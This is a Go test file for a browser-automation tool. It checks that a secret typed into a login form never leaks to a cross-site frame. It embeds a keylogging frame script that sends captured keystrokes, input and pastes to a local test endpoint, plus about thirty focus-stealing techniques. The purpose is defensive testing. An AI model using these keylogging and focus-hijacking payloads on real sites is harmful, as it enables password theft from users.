package browser

import (
	"errors"
	"fmt"
	"maps"
	"net/http"
	"slices"
	"strings"
	"sync"
	"testing"
	"unicode/utf8"

	"plat/fixtures"
	"plat/plat"
)

// typedSecret has 17 characters.
const typedSecret = "tr0ub4dor&3-hörse"

// thief is the document of a frame of a different site. It reports every character that it
// receives, by key or by input. The script that takes the focus replaces TAKE.
const thief = `<!doctype html><meta charset=utf-8><body><input id=password><x-in></x-in><script>
const i = document.getElementById('password');
const report = (what) => { const x = new XMLHttpRequest(); x.open('GET', '/got?c=' + encodeURIComponent(what), false); x.send() };
addEventListener('keydown', (e) => { if (e.key.length === 1) report(e.key) }, true);
addEventListener('input', (e) => report(e.data ?? e.target.value), true);
addEventListener('paste', (e) => report(e.clipboardData.getData('text')), true);
TAKE
</script>`

// A way is a method by which a frame of a different site tries to obtain a typed secret.
type way struct {
	take  string // the script of the frame
	page  string // HTML and script of the page; FRAME is the frame's address
	form  string // where the field is; empty: in the page
	frame string // of the step that fills the field
	ends  string // outcome; empty: depends on the moment
}

// loginForm is a form with the field of the secret.
const loginForm = `<form id=form method=post action=/in target=_top><input id=user name=user><input id=password name=password type=password><button id=go>In</button></form>`

// plainFrame embeds the frame of the different site.
const plainFrame = `<iframe src="FRAME"></iframe>`

// ways lists the ways by name.
var ways = map[string]way{
	"focus() on an interval":           {take: "setInterval(() => i.focus(), 3)", page: plainFrame, ends: "focus-taken"},
	"focus() on every blur":            {take: "i.focus(); i.onblur = window.onblur = () => i.focus()", page: plainFrame},
	"focus() at every frame":           {take: "const f = () => { i.focus(); requestAnimationFrame(f) }; f()", page: plainFrame},
	"focus() in a chain of messages":   {take: "const c = new MessageChannel(); c.port1.onmessage = () => { i.focus(); setTimeout(() => c.port2.postMessage(0), 1) }; c.port2.postMessage(0)", page: plainFrame},
	"focus() on a message of the page": {take: "onmessage = () => i.focus()", page: plainFrame + `<script>for (const e of ['focusin', 'keydown', 'input']) addEventListener(e, () => frames[0].postMessage(1, '*'))</script>`, ends: "focus-taken"},
	"window.focus()":                   {take: "setInterval(() => window.focus(), 3)", page: plainFrame, ends: "focus-taken"},
	"a dialog":                         {take: "document.body.insertAdjacentHTML('beforeend', '<dialog><input autofocus></dialog>'); const d = document.querySelector('dialog'); setInterval(() => { d.close(); d.showModal() }, 5)", page: plainFrame},
	"a field in a shadow root":         {take: "const r = document.querySelector('x-in').attachShadow({mode: 'closed'}); r.innerHTML = '<input>'; r.firstChild.oninput = (e) => report(e.target.value); setInterval(() => r.firstChild.focus(), 3)", page: plainFrame, ends: "focus-taken"},
	"contenteditable":                  {take: "document.body.contentEditable = true; setInterval(() => document.body.focus(), 3)", page: plainFrame, ends: "focus-taken"},
	"autofocus in a late frame":        {take: "i.autofocus = true; i.remove(); document.body.append(i)", page: `<script>addEventListener('focusin', () => document.body.insertAdjacentHTML('beforeend', '<iframe src="FRAME"></iframe>'))</script>`},
	"a late frame":                     {take: "setInterval(() => i.focus(), 3)", page: `<script>addEventListener('focusin', () => document.body.insertAdjacentHTML('beforeend', '<iframe src="FRAME"></iframe>'))</script>`},
	"the page focuses the frame":       {page: plainFrame + `<script>for (const e of ['focusin', 'input', 'keyup']) addEventListener(e, () => document.querySelector('iframe').focus())</script>`, ends: "focus-taken"},
	"the page focuses its window":      {page: plainFrame + `<script>addEventListener('input', () => frames[0].focus())</script>`, ends: "focus-taken"},
	"a frame in an open shadow root":   {take: "setInterval(() => i.focus(), 3)", page: `<x-box></x-box><script>document.querySelector('x-box').attachShadow({mode: 'open'}).innerHTML = '<iframe src="FRAME"></iframe>'</script>`, ends: "focus-taken"},
	"a frame in a closed shadow root":  {take: "setInterval(() => i.focus(), 3)", page: `<x-box></x-box><script>document.querySelector('x-box').attachShadow({mode: 'closed'}).innerHTML = '<iframe src="FRAME"></iframe>'</script>`, ends: "focus-taken"},
	"a frame in a frame of the site":   {take: "setInterval(() => i.focus(), 3)", page: `<iframe src="/nested"></iframe>`, ends: "focus-taken"},
	"an opaque frame":                  {take: "setInterval(() => i.focus(), 3)", page: `<iframe sandbox="allow-scripts" src="FRAME"></iframe>`, ends: "focus-taken"},
	"an object":                        {take: "setInterval(() => i.focus(), 3)", page: `<object data="FRAME" type="text/html"></object>`, ends: "focus-taken"},
	"a sandboxed frame":                {take: "setInterval(() => i.focus(), 3)", page: `<iframe sandbox="allow-scripts allow-same-origin" src="FRAME"></iframe>`, ends: "focus-taken"},
	"a frame that navigates":           {take: "setInterval(() => i.focus(), 3)", page: `<iframe src="/moves"></iframe>`},
	"a pop-up of the page":             {take: "setInterval(() => { window.focus(); i.focus() }, 3)", page: `<script>let w; addEventListener('focusin', () => { w ??= open('FRAME', 'w', 'width=300,height=300'); w?.focus() })</script>`, ends: "new"},
	"a pop-up of the frame":            {take: "if (self !== top) onmessage = () => open(location, 'w', 'width=300,height=300'); else setInterval(() => { window.focus(); i.focus() }, 3)", page: plainFrame + `<script>addEventListener('focusin', () => frames[0].postMessage(1, '*'))</script>`, ends: "new"},
	"the field is in a frame":          {take: "setInterval(() => i.focus(), 3)", page: `<iframe id=own src="/form"></iframe>` + plainFrame, frame: "#own", ends: "focus-taken"},
	"the field is in a written frame":  {take: "setInterval(() => i.focus(), 3)", page: `<iframe id=own srcdoc='` + loginForm + `'></iframe>` + plainFrame, frame: "#own", ends: "focus-taken"},
	"the field is in a shadow root":    {take: "setInterval(() => i.focus(), 3)", page: `<x-form></x-form><script>document.querySelector('x-form').attachShadow({mode: 'open'}).append(document.getElementById('form'))</script>` + plainFrame, form: "x-form >>> ", ends: "focus-taken"},
	"the field's frame navigates":      {page: `<iframe id=own src="/leaves"></iframe>`, frame: "#own"},
	"a frame replaces the form":        {take: "setInterval(() => i.focus(), 3)", page: `<script>document.getElementById('password').onfocus = () => { document.getElementById('form').outerHTML = '<iframe src="FRAME"></iframe>' }</script>`, ends: "steps-failed"},
	"the field is in a frame's frame":  {page: `<iframe id=own src="FRAME"></iframe>`, take: "document.body.innerHTML = '<iframe src=SITE/form></iframe>'", frame: "#own", ends: "steps-failed"},
	"a different field takes it":       {page: `<script>document.getElementById('password').onfocus = () => document.getElementById('user').focus()</script>`, ends: "new"},
	"the field is replaced at once":    {page: `<script>document.getElementById('password').onfocus = (e) => { const f = e.target.cloneNode(); e.target.replaceWith(f); f.focus() }</script>`, ends: "new"},
	"nothing takes the focus":          {page: plainFrame, ends: "new"},
}

// wayName returns the name of a way as part of a URL.
func wayName(name string) string { return strings.ReplaceAll(strings.Trim(name, "()"), " ", "-") }

// thieves serves the frames of the ways, and counts the characters that they have received by
// the name of the way.
type thieves struct {
	site string // of the page, "http://127.0.0.1:PORT"

	mu  sync.Mutex
	got map[string]int // guarded by mu
}

func (x *thieves) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	name, _, _ := strings.Cut(strings.TrimPrefix(r.URL.Path, "/"), "/")
	if name == "got" {
		u := strings.Split(r.Referer(), "/")
		x.mu.Lock()
		x.got[u[len(u)-1]] += utf8.RuneCountInString(r.URL.Query().Get("c"))
		x.mu.Unlock()
		return
	}
	for n, way := range ways {
		if wayName(n) == name {
			w.Header().Set("Content-Type", "text/html; charset=utf-8")
			w.Header().Set("Referrer-Policy", "unsafe-url")
			fmt.Fprint(w, strings.ReplaceAll(strings.Replace(thief, "TAKE", way.take, 1), "SITE", x.site))
		}
	}
}

// victim serves the pages of the attacks, and records the submissions of their forms.
type victim struct {
	foreign string // "http://other.localhost:PORT"

	mu   sync.Mutex
	sent map[string]int // guarded by mu
}

func (x *victim) ServeHTTP(w http.ResponseWriter, r *http.Request) {
	w.Header().Set("Content-Type", "text/html; charset=utf-8")
	if r.Method == http.MethodPost {
		x.mu.Lock()
		x.sent[r.PostFormValue("user")+" "+r.PostFormValue("password")]++
		x.mu.Unlock()
		fmt.Fprint(w, "<!doctype html><title>In</title><p>Welcome.")
		return
	}
	// The URL of a frame's embedding page contains the name of the way.
	name := strings.TrimPrefix(r.URL.Path, "/")
	referrer := strings.Split(r.Referer(), "/")
	frame := x.foreign + "/" + referrer[len(referrer)-1]
	switch name {
	case "nested":
		fmt.Fprintf(w, `<!doctype html><body><iframe src="%s"></iframe>`, frame)
		return
	case "form":
		fmt.Fprint(w, `<!doctype html><body>`+loginForm)
		return
	case "leaves":
		fmt.Fprintf(w, `<!doctype html><body>%s<script>document.getElementById('password').onfocus = () => { location = '%s' }</script>`, loginForm, frame)
		return
	case "moves":
		fmt.Fprintf(w, `<!doctype html><body><input><script>top.addEventListener('focusin', () => { location = '%s' })</script>`, frame)
		return
	}
	for n, way := range ways {
		if wayName(n) != name {
			continue
		}
		form := loginForm
		if way.frame != "" {
			form = ""
		}
		fmt.Fprintf(w, `<!doctype html><title>Login</title><body>%s%s`, form, strings.ReplaceAll(way.page, "FRAME", x.foreign+"/"+name))
	}
}

// Every way in which a frame of a different site can take the focus runs once, and with
// PLAT_LONG=1 fifty times. A frame that has a character of the secret is a failure, whatever
// the outcome of the visit.
func TestNoCharacterOfASecretGoesToAFrameOfADifferentSite(t *testing.T) {
	t.Parallel()
	runs := 50 / fixtures.OneIn(50)
	thieves := &thieves{got: map[string]int{}}
	other := serve(t, thieves)
	victim := &victim{foreign: strings.Replace(other.URL, "127.0.0.1", "other.localhost", 1), sent: map[string]int{}}
	srv := serve(t, victim)
	thieves.site = srv.URL

	names := slices.Sorted(maps.Keys(ways))
	set := "rules:\n"
	for _, name := range names {
		way, frame := ways[name], ""
		if way.frame != "" {
			frame = ", frame: '" + way.frame + "'"
		}
		set += fmt.Sprintf(`
  - match: HOST/%[1]s
    steps:
      - wait: 100ms
      - fill: {selector: "%[2]s#user", value: "anna"%[3]s, timeout: 2s, optional: true}
      - fill: {selector: "%[2]s#password", value: "${env:S}"%[3]s, timeout: 2s}
      - click: {selector: "%[2]s#go"%[3]s}
`, wayName(name), way.form, frame)
	}
	p := stepsPool(t, srv.URL+"/", set, func(o *Options) {
		o.AtLoad, o.NoScroll = true, true
		o.Secret = secrets(map[string]string{"S": typedSecret})
	})
	t.Logf("%-36s %5s %11s  %s", "way", "runs", "characters", "outcomes")
	for _, name := range names {
		t.Run(name, func(t *testing.T) {
			outcomes := map[plat.Outcome]int{}
			for range runs {
				_, err := p.Render(t.Context(), Request{URL: srv.URL + "/" + wayName(name)})
				outcomes[victim.judge(t, err, ways[name].ends)]++
			}
			thieves.mu.Lock()
			got := thieves.got[wayName(name)]
			thieves.mu.Unlock()
			t.Logf("%-36s %5d %11d  %v", name, runs, got, outcomes)
			if got > 0 {
				t.Errorf("the frame has received %d characters in %d runs", got, runs)
			}
		})
	}
}

// judge compares a visit's outcome with the wanted one, and with the submissions of its form. It
// returns the outcome.
func (x *victim) judge(t *testing.T, err error, want string) plat.Outcome {
	t.Helper()
	end := plat.OutcomeNew
	if v, ok := errors.AsType[*plat.VisitError](err); ok {
		end = v.Outcome
	}
	x.mu.Lock()
	sent := maps.Clone(x.sent)
	clear(x.sent)
	x.mu.Unlock()
	switch {
	case end == plat.OutcomeNew && (len(sent) != 1 || sent["anna "+typedSecret] != 1):
		t.Errorf("the form was sent with %v", sent)
	case end != plat.OutcomeNew && len(sent) > 0:
		t.Errorf("%v, and the form was sent with %v", err, sent)
	case want != "" && string(end) != want, !slices.Contains([]plat.Outcome{"new", "focus-taken", "steps-failed"}, end):
		t.Errorf("outcome %s (%v), want %s", end, err, want)
	case end == "focus-taken" && !strings.Contains(err.Error(), "other.localhost"):
		t.Errorf("the error does not name the frame's site: %v", err)
	}
	return end
}
